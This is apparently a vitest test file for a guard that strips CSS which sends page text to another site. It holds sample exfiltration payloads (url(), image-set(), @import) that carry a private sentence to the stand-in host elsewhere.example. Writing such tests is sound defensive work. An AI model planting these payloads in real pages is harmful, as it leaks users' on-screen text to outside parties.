/** A style of an act that loads from another site with text of the page in the address is taken away and reported; other styles stay. */
import { afterEach, beforeEach, expect, test } from 'vitest';
import { carriesAway } from '../../lib/page/dom/carried-text';
import { StyleWatch } from '../../lib/page/session/style-watch';

const SHOWN = 'Clara is to have her knee looked at on the ninth, and Ben must not hear of it.';
const away = `https://elsewhere.example/g?d=${encodeURIComponent(SHOWN)}`;
const stopped: string[] = [];
const watch = new StyleWatch(document, carriesAway, (address) => stopped.push(address));
beforeEach(() => {
  document.body.innerHTML = `<p>${SHOWN}</p>`;
  watch.begin();
});
afterEach(() => {
  watch.end();
  stopped.length = 0;
  document.body.replaceChildren();
  document.body.removeAttribute('style');
});
const sheetOf = (text: string) => {
  const sheet = document.createElement('style');
  sheet.textContent = text;
  return sheet;
};

test.each<[how: string, act: () => void]>([
  ['a property', () => document.body.style.setProperty('background', `url("${away}")`)],
  ['a style as a text', () => Reflect.set(document.body.style, 'cssText', `background:url(${away})`)],
  ['an attribute', () => document.body.setAttribute('style', `background:url('${away}')`)],
  ['a set of pictures', () => document.body.setAttribute('style', `background-image:image-set("${away}" 1x)`)],
  [
    'an element that comes in with its style',
    () => document.body.insertAdjacentHTML('beforeend', `<i><b style="background:url('${away}')">x</b></i>`),
  ],
  ['a sheet', () => document.body.append(sheetOf(`p{background:url("${away}")}`))],
  ['an import of a sheet', () => document.body.append(sheetOf(`@import "${away}";`))],
  [
    'a sheet within another element',
    () => {
      const box = document.createElement('div');
      box.append(sheetOf(`p{background:url("${away}")}`));
      document.body.append(box);
    },
  ],
])('stops %s', (_, act) => {
  act();
  watch.look();
  expect(stopped).toEqual([new URL(away).href]);
  expect(document.documentElement.outerHTML).not.toContain('elsewhere.example');
});

test('stops a style once the listeners of the page have run', () => {
  const onClick = () => {
    document.body.style.background = `url("${away}")`;
  };
  document.body.addEventListener('click', onClick, { once: true });
  document.body.click();
  expect(stopped).toEqual([new URL(away).href]);
});

test('loads nothing of a style that it stops', async () => {
  const sheet = sheetOf(`p{background:url("${away}&n=${Math.random()}")}`);
  document.body.append(sheet);
  watch.look();
  await new Promise((resolve) => setTimeout(resolve, 100));
  const loaded = performance.getEntriesByType('resource').map(({ name }) => name);
  expect(loaded.filter((name) => stopped.includes(name))).toEqual([]);
});

test.each<[how: string, style: string]>([
  ['a picture of another site', 'background: url("https://elsewhere.example/paper.png");'],
  ['a picture of the site with text', `background: url("/g?d=${encodeURIComponent(SHOWN)}");`],
  ['a colour', 'background: rgb(253, 246, 227);'],
])('lets %s stay', (_, style) => {
  document.body.setAttribute('style', style);
  watch.look();
  expect(stopped).toEqual([]);
  expect(document.body.getAttribute('style')).toBe(style);
});
